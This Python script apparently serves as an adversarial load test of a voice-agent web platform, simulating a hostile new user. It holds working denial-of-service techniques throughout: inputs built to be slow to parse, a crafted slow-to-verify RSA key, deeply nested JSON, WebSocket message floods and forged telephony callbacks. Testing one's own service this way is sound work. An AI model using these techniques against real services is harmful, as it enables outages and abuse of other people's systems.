"""A new user who tries to stop all organizations' calls.

Works as a browser and a telephone do, over HTTP and sockets, on everything that an owner may do:
texts that are expensive to read, keys that are expensive to check, voices to listen to, floods
through the sockets of calls, signals about calls in progress, organizations without end.
`Attack.counts` says what was tried and how it was answered, so that an attack that never arrived is
seen.
"""

import asyncio
import base64
import json
import re
import secrets
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from itertools import count, cycle
from typing import Any, Final
from urllib.parse import urlsplit
from xml.etree import ElementTree

import httpx
import websockets

PAGE_SECONDS: Final = 60.0
_CSRF: Final = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')
_ORG: Final = re.compile(r"/o/([0-9a-f]+)/")
_WEBHOOK: Final = re.compile(r"/api/twilio/voice\?[^\s\"'<]+")

# Each is as long as a field may be and made to be read slowly.
TEXTS: Final = (
    "[" * 50_000,
    "a" + "\t" * 49_997 + "b!",
    "(" * 25_000 + ")" * 25_000,
    "1 " * 25_000,
    "a." * 25_000,
    "\n".join(["x: " + "[[" * 50] * 400),
    "ſ" * 50_000,
    "e\u0301" * 25_000,
)
# A modulus of two Mersenne primes: the most expensive that a checker of primes has met.
_MODULUS: Final = (2**9689 - 1) * (2**9941 - 1)


class Attack:
    """One hostile user, logged in with a new address, at one origin."""

    def __init__(self, origin: str) -> None:
        self._origin = origin
        self._http = httpx.AsyncClient(base_url=origin, timeout=PAGE_SECONDS, follow_redirects=True)
        self._numbers = count(1)
        self.organizations: list[str] = []
        self.webhooks: list[str] = []
        self.counts: Counter[str] = Counter()

    async def run(self, seconds: float) -> None:
        """Run all attacks at once for that time. Errors of the service are not raised."""
        await self.sign_up()
        work: list[Callable[[], Awaitable[None]]] = [
            self.make_organization,
            self.import_agent,
            self.store_credentials,
            self.hear_voice,
            self.flood_a_call,
            self.end_own_calls,
            self.type_long_texts,
        ]
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds), asyncio.TaskGroup() as tasks:
                for each in work:
                    tasks.create_task(self._again_and_again(each), name=each.__name__)
        await self._http.aclose()

    async def _again_and_again(self, work: Callable[[], Awaitable[None]]) -> None:
        while True:
            try:
                await work()
            except (httpx.HTTPError, OSError, websockets.WebSocketException, TimeoutError) as error:
                self.counts[f"{work.__name__}: {type(error).__name__}"] += 1
            await asyncio.sleep(0.2)  # a person with a script; the machine has two cores

    # --- pages ------------------------------------------------------------------------------

    async def sign_up(self) -> None:
        """A new address and a first organization."""
        password = secrets.token_urlsafe(18)
        address = f"eve-{secrets.token_hex(6)}@example.com"
        await self._post("sign_up", "/accounts/signup/", {"email": address, "password1": password})
        await self.make_organization()

    async def make_organization(self) -> None:
        """One more, with an agent and a key."""
        page = await self._post(
            "make_organization",
            "/organizations/new/",
            {"name": f"Eve {next(self._numbers)}", "starter": ""},
        )
        if (found := _ORG.search(str(page.url))) and found[1] not in self.organizations:
            self.organizations.append(found[1])
            if webhook := _WEBHOOK.search(page.text):
                self.webhooks.append(webhook[0].replace("&amp;", "&"))

    async def import_agent(self) -> None:
        """A file whose texts are expensive to read; what is accepted is switched on."""
        text = TEXTS[next(self._numbers) % len(TEXTS)]
        field = ("greeting", "prompt", "facts")[next(self._numbers) % 3]
        document = {
            "format": "voicex-agent",
            "format_version": 1,
            "name": "Eve",
            "greeting": "Hello.",
            field: text,
            "engine_settings": {"scripted.ms_per_character": 1000},
        }
        path = f"/o/{self._org()}/agents/import/"
        page = await self._post(
            "import_agent", path, {}, files={"file": ("eve.json", json.dumps(document))}
        )
        if (made := urlsplit(str(page.url)).path) != path:
            await self._post("switch_on", f"{made}change/", {"is_active": "on", "name": "Eve"})

    async def store_credentials(self) -> None:
        """A private key that takes most of a minute to check, and JSON too deep to read."""
        deep = "[" * 10_000 + "]" * 10_000
        for value in (crafted_google_key(), deep, "sk-\u0436" * 100):
            name = "openai_api_key" if value.startswith("sk-") else "google_credentials"
            await self._post(
                "store_credentials", f"/o/{self._org()}/credentials/", {name: value, "form": name}
            )

    async def hear_voice(self) -> None:
        """The longest text in the voice of the machine."""
        await self._post(
            "hear_voice",
            f"/o/{self._org()}/agents/voice/",
            {
                "greeting": f"{secrets.token_hex(3)} is a number to say. " * 8,
                "language": "en",
                "tts": "local",
            },
            at=f"/o/{self._org()}/agents/new/",
        )

    async def type_long_texts(self) -> None:
        """A draft of texts that are expensive to compare and to show."""
        text = TEXTS[next(self._numbers) % len(TEXTS)]
        await self._post(
            "new_agent",
            f"/o/{self._org()}/agents/new/",
            {"name": "Eve", "greeting": text[:1000], "prompt": text, "facts": text},
        )

    # --- telephone --------------------------------------------------------------------------

    async def flood_a_call(self) -> None:
        """A call of our own whose socket sends far more than any telephone."""
        call = await self._ring()
        if call is None:
            return
        async with websockets.connect(call.stream_url, max_size=None) as socket:
            await socket.send(json.dumps({"event": "connected", "protocol": "Call"}))
            await socket.send(call.start())
            flood: cycle[dict[str, Any]] = cycle(
                [
                    {"event": "dtmf", "dtmf": {"digit": "1", "track": "inbound_track"}},
                    {"event": "media", "media": {"payload": "", "track": "inbound"}},
                    {"event": "mark", "mark": {"name": "r1:1"}},
                    {"event": "unheard-of"},
                ]
            )
            for number, message in zip(range(20_000), flood, strict=False):
                await socket.send(json.dumps(message | {"streamSid": call.stream_sid}))
                if number % 500 == 0:
                    await asyncio.sleep(0)
            self.counts["flood: sent whole"] += 1

    async def end_own_calls(self) -> None:
        """A call that stays on the line while its callbacks say that it is over."""
        call = await self._ring()
        if call is None:
            return
        async with websockets.connect(call.stream_url) as socket:
            await socket.send(call.start())
            form = call.form | {"StreamEvent": "stream-stopped", "StreamSid": call.stream_sid}
            for url in (call.status_url, call.action):
                response = await self._http.post(url, data=form)
                self.counts[f"end_own_calls: {response.status_code}"] += 1
            with suppress(TimeoutError):
                async with asyncio.timeout(5):
                    async for _ in socket:
                        pass

    async def _ring(self) -> "OwnCall | None":
        """A call of one of our organizations; None when it is declined."""
        if not self.webhooks:
            return None
        form = {
            "CallSid": f"CA{secrets.token_hex(16)}",
            "AccountSid": "AC" + "e" * 32,
            "From": "+12025550123",
            "To": "+12025550100",
            "CallStatus": "ringing",
            "Direction": "inbound",
            "ApiVersion": "2010-04-01",
        }
        webhook = self.webhooks[next(self._numbers) % len(self.webhooks)]
        response = await self._http.post(webhook, data=form)
        connect = None
        if response.status_code == 200:
            connect = ElementTree.fromstring(response.text).find("Connect")
        self.counts[f"ring: {'connected' if connect is not None else 'declined'}"] += 1
        return OwnCall.of(form, connect) if connect is not None else None

    def _org(self) -> str:
        return self.organizations[next(self._numbers) % len(self.organizations)]

    async def _post(
        self, kind: str, path: str, data: dict[str, str], *, at: str = "", **more: Any
    ) -> httpx.Response:
        """A form posted from the page `at` (its own, if not given), as a browser does."""
        page = await self._http.get(at or path)
        token = _CSRF.search(page.text)
        data = {"csrfmiddlewaretoken": token[1] if token else ""} | data
        response = await self._http.post(
            path, data=data, headers={"Referer": f"{self._origin}{path}"}, **more
        )
        self.counts[f"{kind}: {response.status_code}"] += 1
        return response


@dataclass(frozen=True, slots=True)
class OwnCall:
    """What the TwiML of one of our calls says, and the form that it answers."""

    form: dict[str, str]
    stream_sid: str
    stream_url: str
    status_url: str
    action: str
    ticket: str

    @classmethod
    def of(cls, form: dict[str, str], connect: ElementTree.Element) -> "OwnCall":
        """From `<Connect>` and its `<Stream>`."""
        stream = connect[0]
        return cls(
            form=form,
            stream_sid=f"MZ{secrets.token_hex(16)}",
            stream_url=stream.attrib["url"],
            status_url=stream.attrib["statusCallback"],
            action=connect.attrib["action"],
            ticket=stream[0].attrib["value"],
        )

    def start(self) -> str:
        """The first message of the stream."""
        media = {"encoding": "audio/x-mulaw", "sampleRate": 8000, "channels": 1}
        return json.dumps(
            {
                "event": "start",
                "sequenceNumber": "1",
                "streamSid": self.stream_sid,
                "start": {
                    "accountSid": self.form["AccountSid"],
                    "callSid": self.form["CallSid"],
                    "streamSid": self.stream_sid,
                    "tracks": ["inbound"],
                    "mediaFormat": media,
                    "customParameters": {"ticket": self.ticket},
                },
            }
        )


def crafted_google_key() -> str:
    """A service account whose key of 19,630 bits is two primes that are expensive to prove."""
    numbers = [0, _MODULUS, 65_537, 3, 2**9689 - 1, 2**9941 - 1, 1, 1, 1]
    der = _sequence(b"".join(map(_integer, numbers)))
    pem = "-----BEGIN RSA PRIVATE KEY-----\n" + _base64(der) + "\n-----END RSA PRIVATE KEY-----\n"
    return json.dumps(
        {
            "type": "service_account",
            "project_id": "eve",
            "private_key_id": "1",
            "private_key": pem,
            "client_email": "eve@eve.iam.gserviceaccount.com",
            "token_uri": "https://oauth2.googleapis.com/token",
        }
    )


def _base64(data: bytes) -> str:
    text = base64.b64encode(data).decode()
    return "\n".join(text[at : at + 64] for at in range(0, len(text), 64))


def _integer(number: int) -> bytes:
    return b"\x02" + _sized(number.to_bytes(number.bit_length() // 8 + 1))


def _sequence(content: bytes) -> bytes:
    return b"\x30" + _sized(content)


def _sized(content: bytes) -> bytes:
    if len(content) < 128:
        return bytes([len(content)]) + content
    size = len(content).to_bytes((len(content).bit_length() + 7) // 8)
    return bytes([0x80 | len(size)]) + size + content


if __name__ == "__main__":  # ORIGIN SECONDS; says what was tried
    attack = Attack(sys.argv[1])
    asyncio.run(attack.run(float(sys.argv[2])))
    sys.stdout.write(json.dumps(attack.counts) + "\n")
